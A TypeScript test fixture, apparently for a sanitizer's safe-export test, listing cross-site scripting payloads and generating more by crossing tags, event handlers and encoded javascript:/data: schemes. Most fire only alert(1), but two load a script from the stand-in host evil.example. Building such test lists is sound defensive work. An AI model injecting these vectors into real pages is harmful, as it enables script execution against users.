/**
 * Cross-site scripting payloads for the safe-export test: a curated list of known vectors (raw
 * HTML, Markdown link and image tricks, autolinks, entities, comment and CDATA breakouts, mXSS)
 * and a generator that crosses tags with event handlers and dangerous URL schemes with the ways
 * browsers and Markdown renderers decode them.
 */

/** `javascript:` written the ways a browser, an HTML parser or a Markdown renderer still reads as the scheme. */
const JAVASCRIPT = [
  'javascript:', 'JaVaScRiPt:', 'JAVASCRIPT:', ' javascript:', '\tjavascript:', 'java\tscript:', 'java\nscript:', 'java\rscript:',
  '\u0001javascript:', 'javascript\u0000:', '&#106;avascript:', '&#x6A;avascript:', '&#0000106;avascript:', 'javascript&#58;', 'javascript&colon;',
  'jav&#x09;ascript:', 'jav&#x0A;ascript:', 'jav&#x0D;ascript:', '%6Aavascript:', 'javascript%3A', '\\u006Aavascript:', 'java\\script:',
]
const OTHER_SCHEMES = [
  'vbscript:', 'VBScript:', 'data:text/html,', 'data:text/html;base64,', 'DATA:text/html,', 'data:image/svg+xml,', 'data:image/svg+xml;base64,',
  ' data:text/html,', '&#100;ata:text/html,', 'livescript:', 'mocha:', 'file:', 'blob:', 'filesystem:',
]

/** Every dangerous URL the tests try: each scheme spelling with a script body. */
export const DANGEROUS_URLS: readonly string[] = [
  ...JAVASCRIPT.map((scheme) => `${scheme}alert(1)`),
  ...OTHER_SCHEMES.map((scheme) => `${scheme}${scheme.includes('base64') ? 'PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==' : '<script>alert(1)</script>'}`),
]

const TAGS = [
  'script', 'img', 'svg', 'iframe', 'object', 'embed', 'body', 'details', 'video', 'audio', 'input', 'marquee', 'math', 'a', 'form',
  'base', 'meta', 'link', 'style', 'isindex', 'frameset', 'template', 'noscript', 'textarea', 'select', 'button', 'image',
]
const EVENTS = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerenter']

/** Known vectors, written by hand. */
const CURATED = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script/src=//evil.example/x.js>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="&#97;lert(1)">',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=javascript&colon;alert(1)>x</a>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="javascript:/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '--><script>alert(1)</script><!--',
  '<!-- mldoc:metric v1 --><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '`<script>alert(1)</script>`',
  '``<img src=x onerror=alert(1)>``',
  '```\n<script>alert(1)</script>\n```',
  '    <script>alert(1)</script>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](javascript&#58;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x]( javascript:alert(1) )',
  '[x](javascript:alert(1) "title")',
  '[x][r]\n\n[r]: javascript:alert(1)',
  '[x]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](x"onerror="alert(1))',
  '![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](https://ok.example "t\\" onmouseover=alert(1) x=\\"")',
  '[<img src=x onerror=alert(1)>](https://ok.example)',
  '<javascript:alert(1)>',
  '<vbscript:msgbox(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '<https://ok.example/"onmouseover="alert(1)>',
  'https://ok.example/<script>alert(1)</script>',
  'www.example.com/<img src=x onerror=alert(1)>',
  'a@b.co<script>alert(1)</script>',
  '| <script>alert(1)</script> | x |\n|---|---|\n| <img src=x onerror=alert(1)> | y |',
  '<div>\n<script>alert(1)</script>\n</div>',
  '<div\n>x</div><script>alert(1)</script>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<!DOCTYPE html><script>alert(1)</script>',
  '---\ntitle: <script>alert(1)</script>\n---',
  '{{constructor.constructor("alert(1)")()}}',
  '\u202e<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '*<img src=x onerror=alert(1)>*',
  '**<svg onload=alert(1)>**',
  '~~<iframe src=javascript:alert(1)>~~',
  '> <script>alert(1)</script>',
  '- <script>alert(1)</script>',
  '1. <img src=x onerror=alert(1)>',
  '# <script>alert(1)</script>',
  '<!-- mldoc:section {"guidance":"--><script>alert(1)</script>"} -->',
]

/** Tags crossed with event handlers, in two spellings each. */
function tagsWithEvents(): string[] {
  const out: string[] = []
  for (const tag of TAGS) {
    for (const event of EVENTS) {
      out.push(`<${tag} src=x ${event}=alert(1)>`)
      out.push(`<${tag}/${event}="alert(1)">x</${tag}>`)
    }
  }
  return out
}

/** Dangerous URLs in every place Markdown or HTML takes a URL. */
function urlsInContext(): string[] {
  return DANGEROUS_URLS.flatMap((url) => [`[x](${url})`, `![x](${url})`, `<${url}>`, `<a href="${url}">x</a>`, `<iframe src="${url}"></iframe>`])
}

/** Every payload, each once. */
export function xssPayloads(): string[] {
  return [...new Set([...CURATED, ...tagsWithEvents(), ...urlsInContext(), ...DANGEROUS_URLS])]
}
